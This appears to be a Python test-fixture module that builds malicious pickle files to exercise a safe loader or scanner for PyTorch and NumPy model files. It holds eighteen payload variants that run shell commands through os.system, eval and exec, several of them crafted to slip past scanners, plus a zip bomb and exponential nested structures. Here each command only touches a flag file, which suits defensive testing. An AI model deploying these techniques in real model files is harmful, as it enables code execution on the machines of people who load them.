"""Pickles that run what they carry, made by hand, and the parts to make more of them."""

import io
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable

import torch

PROTO, STOP, MARK, REDUCE, BUILD = b"\x80\x04", b".", b"(", b"R", b"b"


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def blob(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def number(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + b"t"


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def call(function: bytes, *args: bytes) -> bytes:
    return function + tup(*args) + REDUCE


def whole(*parts: bytes) -> bytes:
    return PROTO + b"".join(parts) + STOP


def touch(flag: str) -> bytes:
    return text(f"touch {flag}")


def code(flag: str) -> bytes:
    return text(f"open({flag!r}, 'w')")


def long_number(value: int) -> bytes:
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def persistent(state: bytes, source: str = "", kind: str = "class", version: int = 6) -> bytes:
    items = text("type") + text(kind) + text("version") + number(version) + text("module_src") + text(source)
    items += text("class_name") + text("Precond") + text("state") + state
    return name("torch_utils.persistence", "_reconstruct_persistent_obj") + b"}" + MARK + items + b"u" + b"\x85R"


def nested(data: bytes) -> bytes:
    return call(name("torch.storage", "_load_from_bytes"), blob(data))


def storage_bytes(count: int = 4, announced: int | None = None) -> bytes:
    """torch.save of `count` float32 zeros as storages write it; `announced` numbers are claimed."""
    announced = count if announced is None else announced
    header = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    header += pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
    reference = tup(
        text("storage"), name("torch", "FloatStorage"), text("1"), text("cpu"), long_number(announced), b"N"
    )
    keys = pickle.dumps(["1"], 2)
    return header + b"\x80\x02" + reference + b"Q." + keys + struct.pack("<q", announced) + bytes(4 * count)


def tensor(offset: bytes, shape: bytes, stride: bytes, storage: bytes | None = None) -> bytes:
    rebuild = name("torch._utils", "_rebuild_tensor_v2")
    storage = nested(storage_bytes()) if storage is None else storage
    return call(rebuild, storage, offset, shape, stride, b"\x89", b"}")


def dtype(numpy_code: str, state: bytes | None = None) -> bytes:
    plain = tup(number(3), text("<"), b"N", b"N", b"N", number(-1), number(-1), number(0))
    return (
        call(name("numpy", "dtype"), text(numpy_code), b"\x89", b"\x88") + (plain if state is None else state) + BUILD
    )


def array(shape: bytes, kind: bytes, data: bytes) -> bytes:
    new = call(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), tup(number(0)), blob(b"b"))
    return new + tup(number(1), shape, kind, b"\x89", data) + BUILD


def saved(flag: str, **options: bool) -> bytes:
    """torch.save of an object whose loading would create the flag."""
    file = io.BytesIO()
    torch.save(Trap(flag), file, **options)
    return file.getvalue()


class Trap:
    """Pickles as a call of os.system."""

    def __init__(self, flag: str):
        self.flag = flag

    def __reduce__(self) -> tuple:
        import os

        return os.system, (f"touch {self.flag}",)


def old_tar(flag: str) -> bytes:
    """The tar layout of torch before 0.4, with the payload in its `pickle` member."""
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for member in ("storages", "tensors", "pickle"):
            data = pickle.dumps(0, 2) if member != "pickle" else pickle.dumps(Trap(flag), 2)
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def zip_bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", bytes(1 << 24))
    return file.getvalue()


def doubled_lists(levels: int) -> bytes:
    """A list that holds a list twice, which holds a list twice, ...: 2^levels values when every way is followed."""
    return MARK + b"]q\x00" + b"".join(b"](h%ch%ceq%c" % (k, k, k + 1) for k in range(levels)) + b"t"


def doubled_tuples(levels: int) -> bytes:
    """The same of tuples, whose hash follows every way."""
    return b")" + b"".join(b"q%ch%c\x86" % (k, k) for k in range(levels))


# Each takes the path of the flag. Loading them with the standard library runs the payload.
EXECUTES: dict[str, Callable[[str], bytes]] = {
    "os.system by GLOBAL": lambda f: whole(call(name("os", "system"), touch(f))),
    "posix.system by STACK_GLOBAL": lambda f: whole(call(stack_name("posix", "system"), touch(f))),
    "builtins.eval": lambda f: whole(call(name("builtins", "eval"), code(f))),
    "builtins.exec": lambda f: whole(call(name("builtins", "exec"), code(f))),
    "INST": lambda f: b"(S'touch %s'\nios\nsystem\n." % f.encode(),
    "INST behind a protocol": lambda f: PROTO + MARK + touch(f) + b"ios\nsystem\n" + STOP,
    "OBJ": lambda f: whole(MARK + name("os", "system") + touch(f) + b"o"),
    "protocol 0": lambda f: b"cos\nsystem\n(S'touch %s'\ntR." % f.encode(),
    "getattr chain": lambda f: whole(
        call(call(name("builtins", "getattr"), name("os", "path"), text("os")) + b"0" + name("os", "system"), touch(f))
    ),
    "dotted name": lambda f: whole(call(stack_name("os.path", "os.system"), touch(f))),
    "import by call": lambda f: whole(
        call(
            call(name("operator", "methodcaller"), text("system"), touch(f)),
            call(name("builtins", "__import__"), text("os")),
        )
    ),
    "in the state of a dict": lambda f: whole(b"}" + text("state") + call(name("os", "system"), touch(f)) + b"s"),
    "functools.partial": lambda f: whole(call(name("functools", "partial"), name("os", "system"), touch(f)) + b")R"),
    "pickle within": lambda f: whole(call(name("pickle", "loads"), blob(whole(call(name("os", "system"), touch(f)))))),
    "hidden behind a harmless value": lambda f: whole(b"N0", call(name("os", "system"), touch(f))),
    "hidden in memo": lambda f: whole(name("os", "system"), b"\x940", b"h\x00", tup(touch(f)), REDUCE),
    "BUILD with slots": lambda f: whole(
        call(name("os", "system"), touch(f)) + b"0" + name("types", "SimpleNamespace") + b")\x81N}" + b"\x86b"
    ),
    "copyreg": lambda f: whole(
        call(name("os", "system"), touch(f)) + b"0",
        call(name("copyreg", "_reconstructor"), name("builtins", "list"), name("builtins", "object"), b"N"),
    ),
}
